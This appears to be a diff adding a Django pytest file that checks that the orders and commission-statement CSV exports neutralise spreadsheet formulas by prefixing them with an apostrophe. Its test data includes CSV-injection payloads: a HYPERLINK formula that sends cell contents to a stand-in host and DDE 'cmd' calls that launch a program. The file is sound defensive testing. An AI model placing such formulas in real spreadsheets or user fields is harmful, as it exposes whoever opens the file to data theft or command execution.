@@ -1,0 +1,106 @@
+"""Spreadsheet exports never carry a formula (OWASP CSV injection).
+
+A cell typed with a formula start (``=``, ``+``, ``-``, ``@``, a tab or a
+carriage return) comes back from each export, read with the csv module,
+with a leading ``'``: the spreadsheet shows it as text and runs nothing.
+Amounts stay numbers.
+"""
+
+import csv
+import io
+from datetime import datetime
+from decimal import Decimal
+
+import pytest
+from django.urls import reverse
+from django.utils import timezone
+
+from ordering import services
+from ordering.models import Order
+from tests.ordering.factories import stocked
+
+# One per character that makes a spreadsheet run a cell.
+FORMULAS = {
+    "=": '=HYPERLINK("http://evil.test/?"&A1;"Détails")',
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "carriage return": "\r=1+1",
+}
+
+
+def read_csv(response) -> list[list[str]]:
+    if response.streaming:
+        content = b"".join(response.streaming_content)
+    else:
+        content = response.content
+    text = content.decode("utf-8")
+    assert text.startswith("\ufeff"), "French Excel needs the byte order mark"
+    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
+
+
+@pytest.mark.parametrize("payload", FORMULAS.values(), ids=FORMULAS.keys())
+def test_the_orders_export_neutralises_formulas(
+    client, buyer, delivery_address, payload
+):
+    services.cart_add(user=buyer, product=stocked(), quantity=1)
+    order = services.order_place(
+        user=buyer,
+        submission_key="k1",
+        payment_method=Order.PaymentMethod.ON_ACCOUNT,
+        delivery=services.Delivery(
+            name="Atelier", line1="1 rue", postcode="69002", city="Lyon"
+        ),
+    )
+    # As typed, leading tab included (the checkout form would strip it; an
+    # order keyed in another channel need not).
+    Order.objects.filter(pk=order.pk).update(
+        purchase_order_reference=payload[:60], end_customer_name=payload
+    )
+    client.force_login(buyer)
+
+    rows = read_csv(client.get(reverse("orders_export")))
+
+    header, row = rows
+    assert row[header.index("Client final")] == "'" + payload
+    assert row[header.index("Votre référence")] == "'" + payload[:60]
+    assert row[header.index("Total TTC")] == "29,88"
+
+
+def _credited(organisation, **fields) -> Order:
+    order = Order.objects.create(
+        channel=Order.Channel.WEB,
+        credited_organisation=organisation,
+        credit_rule=Order.CreditRule.TERRITORY,
+        commission_rate=Decimal("5.00"),
+        payment_method="transfer",
+        delivery_name="Client",
+        delivery_line1="1 rue",
+        delivery_postcode="69003",
+        delivery_city="Lyon",
+        total_excl_vat=Decimal("100.00"),
+        total_vat=Decimal("0"),
+        total_incl_vat=Decimal("100.00"),
+        submission_key="s-1",
+        placed_at=timezone.make_aware(datetime(2026, 11, 3, 10, 0)),
+        **fields,
+    )
+    order.number = f"OXY-2026-{order.pk:06d}"
+    order.save()
+    return order
+
+
+@pytest.mark.parametrize("payload", FORMULAS.values(), ids=FORMULAS.keys())
+def test_the_statement_export_neutralises_formulas(
+    client, owner, organisation, payload
+):
+    _credited(organisation, end_customer_name=payload)
+    client.force_login(owner)
+
+    rows = read_csv(client.get(reverse("statement_csv") + "?month=2026-11"))
+
+    header, sale, total = rows
+    assert sale[header.index("Client")] == "'" + payload
+    assert sale[header.index("Commission")] == "5,00"
+    assert total[header.index("Total HT")] == "100,00"
